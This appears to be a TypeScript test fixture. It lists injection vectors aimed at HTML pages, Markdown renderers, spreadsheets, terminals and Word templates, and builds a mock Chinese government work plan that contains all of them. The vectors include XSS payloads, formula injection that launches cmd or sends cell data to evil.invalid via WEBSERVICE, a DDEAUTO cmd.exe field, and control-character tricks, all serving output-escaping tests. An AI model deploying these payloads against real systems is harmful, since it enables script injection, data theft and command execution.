/** Stretches of text that try to act in a page, a spreadsheet, a Markdown renderer or a terminal. */
export const VECTORS: readonly string[] = [
  // HTML: elements, attributes, ways out of where the text stands
  '<script>window.pwned=1</script>',
  '</script><script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '"><svg onload=window.pwned=1>',
  "' onmouseover='window.pwned=1' x='",
  '</style><style>*{display:none}</style>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">点此</a>',
  '--><script>window.pwned=1</script><!--',
  ']]><script>window.pwned=1</script>',
  '</title><script>window.pwned=1</script>',
  '</textarea></option></select><b>',
  '<base href="http://evil.invalid/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
  '<form action="http://evil.invalid/"><button>提交</button></form>',
  '<link rel=stylesheet href=http://evil.invalid/x.css>',
  '&lt;script&gt;&#60;img src=x&#62;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to be one
  '{{constructor.constructor("window.pwned=1")()}} ${window.pwned=1} `${window.pwned=1}`',
  '</article></section></main></body></html>',
  // Markdown: links, images, code, tables, headings, raw HTML
  '[点此](javascript:window.pwned=1)',
  '![x](http://evil.invalid/x.png)',
  '<javascript:window.pwned=1> https://evil.invalid/auto www.evil.invalid',
  '[x]: http://evil.invalid "t"',
  '| 多 | 出 | 一 | 列 |',
  '```js\nwindow.pwned=1\n```',
  '# 标题 **粗** _斜_ ~~删~~ $x^2$ ^[注]^ {#id .class} @all',
  // Spreadsheets: formulas, with and without disguise
  '=HYPERLINK("http://evil.invalid","点此")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '\t=1+1',
  '"=1+1","，"',
  '=WEBSERVICE("http://evil.invalid/"&A1)',
  // Terminals and the order of text
  '\u001b[2J\u001b]0;pwned\u0007\u009b31m',
  '\u202e转过来的\u2066文字\u200f\u061c',
  '\u0000\u0008\u007f\ufeff\ud800',
  '\u2028window.pwned=1\u2029',
  // Templates of office documents
  '{ HYPERLINK "http://evil.invalid" } &amp;#x41; <w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"/>',
]

const DIGITS = '一二三四五六七八九'
/** 1 → 一, 23 → 二十三 */
function ordinal(number: number): string {
  const [tens, ones] = [Math.floor(number / 10), number % 10]
  return `${tens > 1 ? DIGITS[tens - 1] : ''}${tens > 0 ? '十' : ''}${ones > 0 ? DIGITS[ones - 1] : ''}`
}

/** A plan whose title, section, headings, texts and units hold all vectors. */
export function hostileText(place: string): string {
  const tasks = VECTORS.map((vector, i) => {
    const heading = i % 2 === 0 ? `推进事项${vector.replaceAll('\n', ' ')}。` : `${vector}。`
    return `（${ordinal(i + 1)}）${heading}建设${place}统一平台${i}，${vector}，加强对接。（${place}政务局${vector}牵头，${place}财政局负责）`
  })
  return [
    `${place}2022年${VECTORS[0]}工作要点${VECTORS[3]}`,
    `一、${VECTORS[2]}优化服务=1+1`,
    ...tasks.slice(0, 20),
    `二、=HYPERLINK("http://evil.invalid")${VECTORS[5]}`,
    ...tasks.slice(20),
  ].join('\n')
}
